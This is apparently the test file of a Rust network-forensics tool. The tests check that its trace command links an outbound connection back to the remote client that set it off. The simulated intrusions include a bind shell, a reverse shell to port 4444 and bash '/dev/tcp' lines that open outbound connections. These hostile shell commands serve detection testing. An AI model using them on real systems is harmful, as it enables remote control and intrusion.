//! The way in, traced after all processes and connections are gone: what `trace` finds in what `record` recorded.

use std::sync::{Arc, Mutex, PoisonError, Weak};

use serde_json::Value;
use tests::{Actor, Cgroup, Far, FarSocket, Netns, Store, Tree, Watch, Wire, in_fresh_netns, until};

/// The port on the far host that every scene connects to.
pub(super) const OUT: u16 = 443;

/// A recorder of the whole host, and its store. Scenes share it: in an emulator a start takes longer than a scene.
pub(super) struct Recording {
    watch: Mutex<Option<Watch>>,
    store: Store,
}

impl Recording {
    /// The recorder that runs for another scene, or else a new one.
    pub(super) fn begin() -> Arc<Self> {
        static RUNNING: Mutex<Weak<Recording>> = Mutex::new(Weak::new());
        let mut running = RUNNING.lock().unwrap_or_else(PoisonError::into_inner);
        running.upgrade().unwrap_or_else(|| {
            let store = Store::new();
            let watch = Mutex::new(Some(Watch::recording(&store.path(), &[])));
            let recording = Arc::new(Self { watch, store });
            *running = Arc::downgrade(&recording);
            recording
        })
    }

    /// Waits until the close of the connection to `remote`:[`OUT`] is in the store, and traces it.
    pub(super) fn ask(&self, remote: &str) -> Value {
        self.ask_of(&format!("{remote}:{OUT}"))
    }

    /// The same for a connection to an address and port.
    pub(super) fn ask_of(&self, remote: &str) -> Value {
        let words = ["--event", "close", "--remote", remote];
        until("the call out is over", || !self.store.log(&words).is_empty());
        trace(&self.store, remote)
    }
}

impl Drop for Recording {
    /// After the last scene it exits, and must have lost nothing.
    fn drop(&mut self) {
        let watch = self.watch.get_mut().unwrap_or_else(PoisonError::into_inner);
        if let Some(watch) = watch.take().filter(|_| !std::thread::panicking()) {
            watch.finish();
        }
    }
}

/// The only match.
fn trace(store: &Store, selector: &str) -> Value {
    let output = store.run("trace", &["--json", selector]);
    assert!(output.status.success(), "{output:?}");
    let found: Value = serde_json::from_slice(&output.stdout).expect("an object");
    assert_eq!(found["selector"], selector);
    assert_eq!(found["matches"].as_array().map(Vec::len), Some(1), "{found:#}");
    found["matches"][0].clone()
}

fn actor() -> Actor {
    Actor::start(Actor::program())
}

/// Listens on all addresses; returns the port.
pub(super) fn listens(server: &mut Actor) -> u16 {
    port_of(&server.say("listen 0.0.0.0:0 8"))
}

fn port_of(address: &str) -> u16 {
    address.rsplit(':').next().and_then(|port| port.parse().ok()).expect("a port")
}

/// Waits for the connection, and closes it.
pub(super) fn answered(out: FarSocket) {
    out.connected();
    out.close();
}

#[track_caller]
pub(super) fn came_from(found: &Value, far: &Far, port: u16) {
    let origin = &found["origin"];
    assert_eq!(
        (&origin["kind"], &origin["ip"], &origin["port"]),
        (&"remote".into(), &far.ip.as_str().into(), &port.into()),
        "{found:#}"
    );
    assert_eq!(origin["process"], Value::Null);
    assert!(origin["confidence"] == "observed" || origin["confidence"] == "inferred", "{found:#}");
}

/// Pids of the processes on the way; the first one connected out.
pub(super) fn pids(found: &Value) -> Vec<u64> {
    let chain = found["chain"].as_array().expect("a chain");
    chain
        .iter()
        .filter(|step| step["kind"] == "process")
        .filter_map(|step| step["process"]["pid"].as_u64())
        .collect()
}

/// A shell that is controlled from a remote host connects out.
#[test]
fn bind_shell_leads_to_its_client() {
    in_fresh_netns(|| {
        let recording = Recording::begin();
        let (far, mut server) = (Far::away(), actor());
        let pid = server.pid();
        let at = listens(&mut server);
        let out = far.listen(OUT);
        let attacker = far.connect(at);
        server.say("accept");
        server.begin("become /bin/bash");
        attacker.send(&format!("exec 3<>/dev/tcp/{}/{OUT}; read -r line <&3; exit\n", far.ip));
        answered(out);
        server.ended();
        let found = recording.ask(&far.ip);
        came_from(&found, &far, attacker.port);
        assert_eq!(pids(&found), [u64::from(pid)]);
        assert_eq!(found["chain"][0]["process"]["comm"], "bash");
    });
}

/// A web server is made to start a shell that connects back, and that shell connects out.
#[test]
fn reverse_shell_leads_to_the_web_client() {
    in_fresh_netns(|| {
        let recording = Recording::begin();
        let (far, mut server) = (Far::away(), actor());
        let at = listens(&mut server);
        let (back, out) = (far.listen(4444), far.listen(OUT));
        let attacker = far.connect(at);
        server.say("accept");
        server.begin(&format!("on-request shell {}:4444", far.ip));
        attacker.send("x");
        back.connected();
        back.send(&format!("exec 3<>/dev/tcp/{}/{OUT}; read -r line <&3; exit\n", far.ip));
        answered(out);
        server.answer().expect("the shell ends");
        let server_pid = server.pid();
        server.kill();
        let found = recording.ask(&far.ip);
        came_from(&found, &far, attacker.port);
        assert_eq!(pids(&found).last(), Some(&u64::from(server_pid)));
    });
}

/// A child serves the connection, and its own child connects out, without having read from a connection just before.
#[test]
fn separated_privileges_lead_to_the_client() {
    in_fresh_netns(|| {
        let recording = Recording::begin();
        let (far, mut server) = (Far::away(), actor());
        let at = listens(&mut server);
        let out = far.listen(OUT);
        let neighbour = far.connect(at);
        server.say("accept");
        let client = far.connect(at);
        server.say("accept");
        server.begin(&format!("privileges {}:{OUT}", far.ip));
        client.send("x");
        answered(out);
        server.answer().expect("all children end");
        server.kill();
        let found = recording.ask(&far.ip);
        came_from(&found, &far, client.port);
        assert_ne!(client.port, neighbour.port);
        assert_eq!(pids(&found).len(), 2);
    });
}

/// A daemon that a web server started for a request outlives it, and connects out later. Others are connected all the
/// time.
#[test]
fn daemon_left_by_a_request_leads_to_its_client() {
    in_fresh_netns(|| {
        let recording = Recording::begin();
        let (far, mut server, mut other) = (Far::away(), actor(), actor());
        let (at, at_other) = (listens(&mut server), listens(&mut other));
        let out = far.listen(OUT);
        let neighbours = [far.connect(at), far.connect(at_other)];
        server.say("accept");
        other.say("accept");
        let client = far.connect(at);
        server.say("accept");
        server.begin(&format!("on-request daemonize {}:{OUT}", far.ip));
        client.send("x");
        server.answer().expect("the daemon is there");
        server.kill();
        answered(out);
        drop(neighbours);
        let found = recording.ask(&far.ip);
        came_from(&found, &far, client.port);
        assert_eq!(found["origin"]["confidence"], "inferred");
        assert_eq!(pids(&found).len(), 3);
    });
}

/// From a remote host to a proxy, from there over loopback to another, and out.
#[test]
fn two_hops_lead_to_the_first_client() {
    in_fresh_netns(|| {
        let recording = Recording::begin();
        let (far, mut first, mut second) = (Far::away(), actor(), actor());
        let (at, inner) = (listens(&mut first), listens(&mut second));
        let out = far.listen(OUT);
        second.begin(&format!("proxy {}:{OUT}", far.ip));
        first.begin(&format!("proxy 127.0.0.1:{inner}"));
        let client = far.connect(at);
        first.answer().expect("a hop");
        second.answer().expect("a hop");
        let both = [u64::from(second.pid()), u64::from(first.pid())];
        first.kill();
        second.kill();
        answered(out);
        let found = recording.ask(&far.ip);
        came_from(&found, &far, client.port);
        assert_eq!(found["origin"]["confidence"], "observed");
        assert_eq!(pids(&found), both);
    });
}

/// A program that was started on a connection.
#[test]
fn program_started_by_inetd_leads_to_its_client() {
    in_fresh_netns(|| {
        let recording = Recording::begin();
        let (far, mut server) = (Far::away(), actor());
        let at = listens(&mut server);
        let out = far.listen(OUT);
        let client = far.connect(at);
        server.say("accept");
        let script = format!("sleep+0.02;exec+3<>/dev/tcp/{}/{OUT};read+-r+line+<&3", far.ip);
        let shell: u64 =
            server.say(&format!("spawn connection /bin/bash -c {script}")).parse().expect("a pid");
        answered(out);
        server.kill();
        let found = recording.ask(&far.ip);
        came_from(&found, &far, client.port);
        assert_eq!(pids(&found), [shell]);
    });
}

/// A service runs a scheduled job. A client is connected to it, and has nothing to do with the job.
#[test]
fn scheduled_job_leads_to_its_service() {
    in_fresh_netns(|| {
        let group = Cgroup::new(Tree::Unified, "cron.service");
        let recording = Recording::begin();
        let (far, mut cron) = (Far::away(), actor());
        group.takes(cron.pid());
        let at = listens(&mut cron);
        let out = far.listen(OUT);
        let client = far.connect(at);
        cron.say("accept");
        client.send("x");
        cron.say("recv 1");
        cron.begin(&format!("job {}:{OUT}", far.ip));
        answered(out);
        cron.answer().expect("the job ends");
        let pid = cron.pid();
        cron.kill();
        let found = recording.ask(&far.ip);
        let origin = &found["origin"];
        assert_eq!(
            (&origin["kind"], &origin["process"]["pid"]),
            (&"service".into(), &pid.into()),
            "{found:#}"
        );
        assert_eq!(origin["process"]["unit"], "cron.service");
        assert_eq!((&origin["ip"], &origin["port"]), (&Value::Null, &Value::Null));
        // The client is reported as possible.
        assert_eq!(origin["possible"][0]["remote"]["port"], client.port);
    });
}

/// A peer in another namespace is on this host: the trace continues there.
#[test]
fn peer_in_another_namespace_is_followed() {
    let (here, there) = (Netns::fresh(), Netns::fresh());
    let wire = Wire::between(&here, &there);
    here.inside(|| {
        let recording = Recording::begin();
        let (far, mut server) = (Far::away(), actor());
        let at = listens(&mut server);
        let mut client = there.inside(actor);
        let out = far.listen(OUT);
        server.begin(&format!("proxy {}:{OUT}", far.ip));
        client.say(&format!("connect - {}:{at}", wire.a));
        server.answer().expect("a hop");
        let both = [u64::from(server.pid()), u64::from(client.pid())];
        server.kill();
        client.kill();
        answered(out);
        let found = recording.ask(&far.ip);
        assert_eq!(pids(&found)[..2], both);
        let hop = found["chain"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|step| step["kind"] == "connection" && step["connection"]["netns"] == there.inum());
        assert!(hop.is_some(), "{found:#}");
        // The test process itself is older than the recording.
        assert_eq!(found["origin"]["kind"], "unknown");
        assert!(
            found["origin"]["missing"][0].as_str().is_some_and(|why| why.contains("before recording began"))
        );
    });
}

/// Without a store, connections that are open now are traced, in every format.
#[test]
fn without_a_store_open_connections_are_traced() {
    if std::path::Path::new("/var/lib/netwatch/netwatch.db").exists() {
        return tests::skip(
            "trace::without_a_store_open_connections_are_traced",
            "this machine has a store where one usually is",
        );
    }
    in_fresh_netns(|| {
        let (mut server, mut client) = (actor(), actor());
        let at = listens(&mut server);
        client.say(&format!("connect - 127.0.0.1:{at}"));
        server.say("accept");
        let selector = format!("pid:{}", client.pid());
        let trace = |format: &str| {
            let output = tests::netwatch(&["trace", "--format", format, &selector]);
            let stderr = String::from_utf8(output.stderr).expect("UTF-8");
            assert!(
                output.status.success() && stderr.contains("tracing connections that are open now"),
                "{stderr}"
            );
            String::from_utf8(output.stdout).expect("UTF-8")
        };
        let found: Value = serde_json::from_str(&trace("json")).expect("an object");
        let [found] = found["matches"].as_array().expect("matches").as_slice() else { panic!("{found:#}") };
        assert_eq!(found["connection"]["remote"]["port"], at);
        assert_eq!(pids(found)[..2], [u64::from(client.pid()), u64::from(std::process::id())]);
        // Not from a remote host: how this test was started depends on the machine.
        assert_ne!(found["origin"]["kind"], "remote");
        let who = format!("actor[{}]", client.pid());
        let (text, dot) = (trace("text"), trace("dot"));
        assert!(text.contains(&format!("{who} began the connection")), "{text}");
        assert!(dot.starts_with("digraph trace {\n") && dot.contains(&who), "{dot}");
    });
}
